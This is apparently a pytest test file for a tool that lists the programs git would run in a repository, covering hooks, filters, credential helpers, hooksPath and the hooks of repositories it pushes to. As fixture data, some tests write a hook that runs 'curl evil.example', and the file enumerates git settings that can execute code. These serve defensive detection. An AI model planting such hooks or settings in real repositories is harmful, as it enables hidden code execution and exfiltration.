"""Programs that come along beside a repository: in files that a setting names, and where it pushes to."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from publishing import RunGit

from orchestrator.tools.foreign_repository import what_git_would_run
from orchestrator.tools.local_address import place_of


def names(site: Path) -> list[str]:
    return [line.partition(" (")[0] for line in what_git_would_run(site)]


def write_hook(at: Path, text: str = "#!/bin/sh\n") -> None:
    at.parent.mkdir(parents=True, exist_ok=True)
    at.write_text(text)
    at.chmod(0o755)


@pytest.mark.parametrize(
    ("setting", "value"),
    [
        ("filter.x.clean", "bin/program"),
        ("filter.x.process", "sh -e 'bin/program' %f"),
        ("core.sshCommand", "ssh -F bin/program"),
        ("credential.helper", "!bin/program"),
        ("gpg.program", "./bin/program"),
        ("diff.x.textconv", "cat<bin/program"),
    ],
)
def test_a_line_changes_with_the_file_that_a_setting_names(site: Path, git: RunGit, setting: str, value: str) -> None:
    write_hook(site / "bin/program")
    git("config", setting, value)
    first = what_git_would_run(site)

    write_hook(site / "bin/program", "#!/bin/sh\ncurl evil.example\n")

    assert len(first) == 1
    assert "bin/program" in first[0]
    assert what_git_would_run(site) != first


def test_a_program_that_is_named_and_comes_later_changes_the_line(site: Path, git: RunGit) -> None:
    git("config", "filter.x.clean", "bin/program")
    first = what_git_would_run(site)

    write_hook(site / "bin/program")

    assert what_git_would_run(site) != first


def test_a_program_of_any_size_is_told_without_being_read_whole(site: Path, git: RunGit) -> None:
    write_hook(site / "program")
    os.truncate(site / "program", 1 << 40)
    git("config", "filter.x.clean", "./program")

    assert names(site) == ["filter.x.clean: ./program"]


def test_hooks_of_a_folder_that_a_worktrees_settings_name_are_told(site: Path, git: RunGit) -> None:
    git("config", "extensions.worktreeConfig", "true")
    git("config", "--worktree", "core.hooksPath", "guards")
    write_hook(site / "guards/pre-push")

    assert names(site) == ["core.hookspath: guards", "hook pre-push"]


@pytest.mark.parametrize("hook", ["pre-receive", "update", "post-receive", "post-update", "reference-transaction"])
@pytest.mark.parametrize("url", ["../there.git", "../there", "file://{root}/there.git", "{root}/there.git"])
def test_hooks_of_a_repository_that_is_pushed_to_are_told(
    root: Path, site: Path, git: RunGit, hook: str, url: str
) -> None:
    git("init", "-q", "--bare", "there.git", folder=root)
    git("remote", "add", "origin", url.format(root=root))
    assert what_git_would_run(site) == ()

    write_hook(root / "there.git/hooks" / hook)
    first = what_git_would_run(site)
    write_hook(root / "there.git/hooks" / hook, "#!/bin/sh\ncurl evil.example\n")

    assert [line.partition(" (")[0] for line in first] == [f"a push to {root}/there.git: hook {hook}"]
    assert what_git_would_run(site) != first


def test_settings_of_a_repository_that_is_pushed_to_are_told(root: Path, site: Path, git: RunGit) -> None:
    git("init", "-q", "there", folder=root)
    git("config", "core.hooksPath", "../guards", folder=root / "there")
    write_hook(root / "guards/post-receive")
    git("remote", "add", "other", "https://example.org/x.git")
    git("config", "remote.other.pushurl", "../there")

    assert names(site) == [
        f"a push to {root}/there/.git: core.hookspath: ../guards",
        f"a push to {root}/there/.git: hook post-receive",
    ]


def test_a_repository_in_the_home_folder_is_found_where_git_finds_it(
    site: Path, git: RunGit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    git("init", "-q", "--bare", "there.git", folder=tmp_path)
    write_hook(tmp_path / "there.git/hooks/post-receive")
    git("remote", "add", "origin", "~/there.git")

    assert names(site) == [f"a push to {tmp_path}/there.git: hook post-receive"]


@pytest.mark.parametrize(
    "setting",
    [
        "http.curloptResolve",
        "http.sslCAInfo",
        "http.https://example.org.sslCAPath",
        "http.saveCookies",
        "http.sslCert",
        "http.followRedirects",
        "http.emptyAuth",
        "push.gpgSign",
        "lfs.url",
        "lfs.customtransfer.x.path",
        "hook.x.command",
        "gc.recentObjectsHook",
    ],
)
def test_settings_that_lead_or_run_by_other_ways_are_told(site: Path, git: RunGit, setting: str) -> None:
    git("config", setting, "some.thing")

    assert [line.lower() for line in what_git_would_run(site)] == [f"{setting}: some.thing".lower()]


@pytest.mark.parametrize("setting", ["http.postBuffer", "http.version", "http.lowSpeedLimit", "core.autocrlf"])
def test_settings_that_neither_run_nor_lead_are_not(site: Path, git: RunGit, setting: str) -> None:
    git("config", setting, "1")

    assert what_git_would_run(site) == ()


@pytest.mark.parametrize(
    "name",
    ["config", "config.worktree", "commondir", "objects/info/alternates", "objects/info/http-alternates", "info/p"],
)
def test_a_pipe_in_the_place_of_a_file_of_gits_is_not_waited_for(site: Path, git: RunGit, name: str) -> None:
    git("config", "include.path", "info/p")
    at = site / ".git" / name
    at.parent.mkdir(parents=True, exist_ok=True)
    at.unlink(missing_ok=True)
    os.mkfifo(at)

    what_git_would_run(site)


def test_a_pipe_in_the_place_of_a_repository_is_none(root: Path) -> None:
    (root / "site").mkdir()
    os.mkfifo(root / "site/.git")

    assert what_git_would_run(root / "site") == ()


def test_files_that_include_each_other_in_many_ways_end_as_a_line(site: Path) -> None:
    (site / ".git/config").write_text("[include]\n" + "path = config\n" * 40)

    assert any("too many files" in line for line in what_git_would_run(site))


def test_every_place_that_objects_are_lent_from_is_told(site: Path) -> None:
    (site / ".git/objects/info/alternates").write_text("/a\n/b\n")

    assert what_git_would_run(site) == (
        "objects/info/alternates leads to /a",
        "objects/info/alternates leads to /b",
    )


@pytest.mark.parametrize(
    ("url", "place"),
    [
        ("../there.git", "/a/there.git"),
        ("/b/there.git", "/b/there.git"),
        ("file:///b/there.git", "/b/there.git"),
        ("file:///b/th%65re.git", "/b/there.git"),
        ("./c:d", "/a/site/c:d"),
        ("~/there.git", "/home-of-mine/there.git"),
        ("~no-such-account/x", "/a/site/~no-such-account/x"),
        ("https://example.org/x", ""),
        ("git@example.org:x", ""),
        ("c:d", ""),
        ("ext::sh -c x", ""),
    ],
)
def test_an_address_on_this_computer_leads_where_git_goes(
    url: str, place: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", "/home-of-mine")

    assert place_of(url, Path("/a/site")) == place
